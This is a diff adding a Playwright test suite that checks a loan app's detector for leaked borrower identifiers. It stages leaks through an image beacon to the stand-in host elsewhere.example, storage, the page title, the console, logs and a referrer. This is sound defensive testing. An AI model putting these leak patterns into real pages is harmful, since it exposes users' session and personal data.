@@ -1,0 +1,119 @@
+import { readdirSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Page } from '@playwright/test';
+import { root } from '../../scripts/build/settings.ts';
+import { borrowers } from './borrowers.ts';
+import { expect, test } from './fixture.ts';
+
+const borrower = borrowers.instalments;
+const { userId, deviceId = '', sessionId = '', mobilePhone = '' } = borrower;
+// Long enough to be told from anything else, where they come out.
+const headers = {
+  building: 'building-of-journeys',
+  gather: 'gather-of-journeys',
+  swift: 'swift-of-journeys',
+  eyes: 'eyes-of-journeys',
+};
+const ELSEWHERE = 'https://elsewhere.example';
+
+/** Answers another origin's addresses, and waits for what the page asks of it. */
+const asking = async (page: Page, ask: () => Promise<unknown>): Promise<void> => {
+  await page.route(`${ELSEWHERE}/**`, (route) => route.fulfill({ status: 204 }));
+  const asked = page.waitForRequest(`${ELSEWHERE}/**`);
+  await ask();
+  await asked;
+};
+
+/** Ways to betray a borrower, each with what the watch of every journey has to say of it. */
+const betrayals: readonly (readonly [how: string, betray: (page: Page) => Promise<unknown>, leaks: string[]])[] = [
+  [
+    'a request to another origin',
+    (page) =>
+      asking(page, () =>
+        page.evaluate((to) => {
+          new Image().src = `${to}/pixel${location.search}`;
+        }, ELSEWHERE),
+      ),
+    ['deviceId', 'userId', 'sessionId', 'mobilePhone', ...Object.keys(headers)].map(
+      (name) => `${name} in a request to ${ELSEWHERE}/pixel`,
+    ),
+  ],
+  [
+    'a picture of this site',
+    (page) =>
+      page.evaluate(async (phone) => {
+        const image = new Image();
+        image.src = `/sandbox/images/qr.svg?of=${phone}`;
+        await image.decode();
+      }, mobilePhone),
+    ['mobilePhone in a request to {origin}/sandbox/images/qr.svg'],
+  ],
+  [
+    'the body of a request that is no call',
+    (page) => page.evaluate((id) => fetch('/texts/none', { method: 'POST', body: `|${id}|` }), userId),
+    ['userId in a request to {origin}/texts/none'],
+  ],
+  [
+    'the title',
+    (page) =>
+      page.evaluate((id) => {
+        document.title = `Order of ${id}`;
+      }, userId),
+    ['userId in a title'],
+  ],
+  ['the console', (page) => page.evaluate((id) => console.info({ id }, id), sessionId), ['sessionId in the console']],
+  [
+    'the storage of the phone',
+    (page) => page.evaluate((id) => localStorage.setItem('last', id), deviceId),
+    ['deviceId in the store last'],
+  ],
+  [
+    'a record that another borrower must not see',
+    (page) => page.evaluate((phone) => sessionStorage.setItem('loan:default:complaintDraft', phone), mobilePhone),
+    ['mobilePhone in the store loan:default:complaintDraft'],
+  ],
+  [
+    'the log of the service',
+    async () => console.error(`A sample of a log that says too much: ${sessionId}`),
+    ['sessionId in the log'],
+  ],
+];
+
+test.describe('Every journey is watched, and sees it where the session comes out in', () => {
+  for (const [how, betray, expected] of betrayals)
+    test(how, async ({ page, app, open, leaks, expectProblem }) => {
+      expectProblem('foreign request');
+      expectProblem('404');
+      await open('repay', borrower, headers);
+      await expect(page.getByRole('button', { name: 'Payment Method' })).toBeVisible();
+      expect(await leaks.find()).toEqual([]);
+      await betray(page);
+      const lines = expected.map((leak) => leak.replace('{origin}', app.origin));
+      await expect.poll(leaks.find).toEqual(expect.arrayContaining(lines));
+      expect([...(await leaks.find())].sort()).toEqual([...lines].sort());
+      for (const line of lines) leaks.expect(line);
+    });
+
+  test('a referrer', async ({ page, app, open, leaks, expectProblem }) => {
+    expectProblem('foreign request');
+    await open('repay', borrower, headers);
+    await expect(page.getByRole('button', { name: 'Payment Method' })).toBeVisible();
+    await page.evaluate(() => fetch('/texts/none', { referrerPolicy: 'unsafe-url' }));
+    expectProblem('404');
+    expect(await leaks.find()).toContain('sessionId in a referrer');
+    expect(await leaks.find()).toContain(`sessionId in a request to ${app.origin}/texts/none`);
+    leaks.expect('');
+  });
+});
+
+test('The page parameters that travel as headers come out nowhere on any screen', async ({ page, open, leaks }) => {
+  test.slow();
+  const screens = readdirSync(join(root, 'pages')).filter((folder) => !/notFound|testPreview/.test(folder));
+  for (const screen of screens) {
+    await open(screen === 'home' ? '' : screen, borrower, headers);
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    await expect(page.locator('[aria-busy=true]')).toHaveCount(0);
+    // What a document keeps is looked at before the next one takes its place.
+    expect(await leaks.find()).toEqual([]);
+  }
+});
